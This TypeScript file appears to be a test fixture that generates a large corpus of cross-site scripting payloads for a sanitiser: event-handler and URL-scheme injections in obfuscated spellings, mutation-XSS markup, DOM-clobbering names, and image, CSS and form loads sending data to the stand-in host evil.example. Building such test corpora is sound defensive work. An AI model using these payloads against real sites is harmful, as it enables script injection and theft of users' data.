const IMG = '<img src=nothing onerror=hostile()>';
let addresses = 0;
/**
 * The snippets of a text, which two spaces or a line break separate. In each, RUN becomes a call of a script, IMG an image
 * that makes that call, and OUT a new address of another origin.
 */
const snippets = (text: string) =>
  text
    .trim()
    .split(/ {2,}|\n\s*/)
    .map((one) => one.replaceAll('IMG', IMG).replaceAll('RUN', 'hostile()'))
    .map((one) => one.replace(/OUT/g, () => `https://evil.example/${(addresses += 1)}`));
const filledIn = (frames: string, words: readonly string[]) =>
  snippets(frames).flatMap((frame) => words.map((word) => frame.replaceAll('WORD', word)));
const words = (text: string) => text.split(/\s+/);

const EVENTS = `abort animationstart beforeinput beforetoggle blur change click contextmenu error focus focusin input
  keydown load loadstart mouseenter pageshow pointerdown scroll submit toggle transitionend wheel`;
const NAMES = `root body head cookie forms location defaultView createElement querySelector attributes parentNode
  removeChild textContent site-config trustedTypes localStorage __proto__ constructor`;

/** Addresses, because one may be the whole text of a consent: scripts, or documents with scripts, in each spelling. */
export const BARE_ADDRESSES: readonly string[] = snippets(`
  javascript:RUN  \u0001 JaVaScRiPt:RUN  \u00a0javascript:RUN  \ufeffjava\tscript:RUN  java&NewLine;script:RUN
  jav\u0000ascript:RUN  j&#x61vascript&colon;RUN  &#106&#97&#118&#97&#115&#99&#114&#105&#112&#116&#58RUN
  javascript://evil.example/%0aRUN  javascript:/*--></title></style></textarea>*/RUN  javascript:%68ostile()
  vbscript:RUN  data:text/html,<script>RUN</script>  DATA:text/html;base64,PHNjcmlwdD5ob3N0aWxlKCk8L3NjcmlwdD4=
  data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='RUN'/>  blob:OUT  file:///etc/hostname
  intent://evil.example#Intent;scheme=https;end  ws://evil.example/`);
const CARRIERS = `
  <p><a href="WORD" target="_self">x</a></p>  <iframe src="WORD"></iframe>  <object data="WORD"></object><embed src="WORD">
  <form action="WORD"><button formaction="WORD">x</button></form>  <meta http-equiv="refresh" content="0;url=WORD">
  <base href="WORD">  <svg><a xlink:href="WORD"><text>x</text></a></svg><math href="WORD"><mi>x</mi></math>
  <img src="WORD" srcset="WORD 2x" alt="x"><map name="m"><area href="WORD"></map>  <link rel="stylesheet" href="WORD">`;

/** Texts that try to run a script, to reach another origin, or to change the page around them. */
export const CORPUS: readonly string[] = [
  ...filledIn('<p onWORD=RUN tabindex=0 autofocus>x</p>  <img onWORD=RUN>', words(EVENTS)),
  ...filledIn(CARRIERS, BARE_ADDRESSES),
  // Handlers and scripts in each way of writing that a parser understands.
  ...snippets(String.raw`
    IMG  <img/src="nothing"/onerror=RUN>  <IMG SRC=nothing ONERROR=RUN>  <img src=nothing onerror=&#104;&#x6fstile&lpar;&rpar;>
    <img """><script>RUN</script>">  <p title='"onclick=RUN'>x</p>  <p onclick=RUN//><p>x
    <<p ==onclick=RUN "onclick=RUN">x</p>  <body onload=RUN onhashchange=RUN>  <video><source onerror=RUN src=nothing></video>
    <audio src=nothing onerror=RUN autoplay></audio>  <details open ontoggle=RUN>x</details>  <style onload=RUN></style>
    <xss-x tabindex=1 autofocus onfocus=RUN>x</xss-x>  <iframe onload=RUN></iframe>  <img src=nothing onerror="RUN//
    <script>RUN</script>  <scr<script>ipt>RUN</scr</script>ipt>  <script src="data:text/javascript,RUN"></script>  <p>x<script>RUN
    <script>0</script><!--><script>RUN</script>  </p></div></main></body><script>RUN</script>  <script src=OUT></script>`),
  // What fetches, styles or takes what is typed.
  ...filledIn('<link rel=WORD href=//evil.example/WORD>', words('prefetch icon preconnect')),
  ...snippets(String.raw`
    <img src="\\evil.example\a">  <img src="/\evil.example/b">  <img src="https:evil.example/c">  <img src="//evil.example/d">
    <img src=OUT>  <img src=nothing srcset="OUT 1x" longdesc=OUT lowsrc=OUT>  <image src=OUT>  <input type=image src=OUT>
    <picture><source srcset=OUT><img src=nothing></picture>  <video poster=OUT src=OUT autoplay muted><track default src=OUT.vtt>
    <audio src=OUT autoplay></audio>  <embed src=OUT><object data=OUT></object>  <iframe src=OUT></iframe>  <body background=OUT>
    <iframe srcdoc="<img src=OUT><script>parent.RUN</script>"></iframe>  <table background=OUT><tr><td background=OUT>x</table>
    <svg><image href=OUT /><use href=OUT#a /><filter><feImage xlink:href=OUT /></filter></svg>  <video><source src=OUT></video>
    <style>@import url(OUT);p{background:url(OUT)!important}</style>  <style>@font-face{font-family:a;src:url(OUT)}*{font:1em a}</style>
    <p style="background:url(OUT)">x</p>  <p style="background-image:\75rl(OUT)">x</p>  <p style="mask:url(OUT);content:url(OUT)">x</p>
    <p style="position:fixed;inset:0;z-index:9999">x</p>  <a href=OUT ping=OUT download=a.exe target=root rel=opener>x</a>
    <q cite=OUT>x</q>  <p style="border-image:url(OUT) 1;cursor:url(OUT),auto">x</p>  <svg><rect fill="url(OUT#a)" /></svg>
    <form action=OUT method=post><input name=pesel><button>x</button></form>  <input type=password>  <label>x<input type=file></label>`),
  // Markup that parses to another tree once it was sanitised, and other namespaces.
  ...filledIn('<WORD><p title="</WORD>IMG"></WORD>', words('noscript xmp iframe title')),
  ...snippets(`
    <noscript><style></noscript>IMG  <svg></p><style><p title="</style>IMG">  <svg><title><style><p title="</style>IMG"></style></svg>
    <math><mtext><table><mglyph><style><!--</style>IMG--></style></mglyph></table></mtext></math>  <table><tr><p>IMG<td>IMG</table>
    <form><math><mtext></form><form><mglyph><style></math>IMG  <svg><foreignObject><math><mi><style><p title="</style>IMG">
    <math><annotation-xml encoding="text/html"><style>IMG</style></annotation-xml></math>  <svg><![CDATA[</svg>IMG]]></svg>
    <select><template><style><p title="</style>IMG"></template></select>  <template shadowrootmode=open>IMG<slot></slot></template>
    <!--><p title="-->IMG">  <!-- --!>IMG -->  </x IMG><?x IMG?><!x IMG>  <svg onload=RUN></svg>  <svg><script>RUN</script></svg>
    <svg><animate onbegin=RUN attributeName=x dur=1s></svg>  <svg><foreignObject><body onload=RUN>x</body></foreignObject></svg>`),
  `${'<b>'.repeat(600)}${IMG}`,
  // Names that hide properties of the document, or of the page.
  ...filledIn('<img id=WORD name=WORD>  <form name=WORD><input name=WORD></form>', words(NAMES)),
  ...snippets(`
    <a id=config><a id=config name=apiBase href=OUT>x</a></a>  <iframe name=parent srcdoc="<a id=location></a>"></iframe>
    <p role=alert aria-live=assertive class=sr lang=xx dir=rtl data-a=b slot=x part=y contenteditable hidden>x</p>`),
  '<plaintext>hostile()',
];
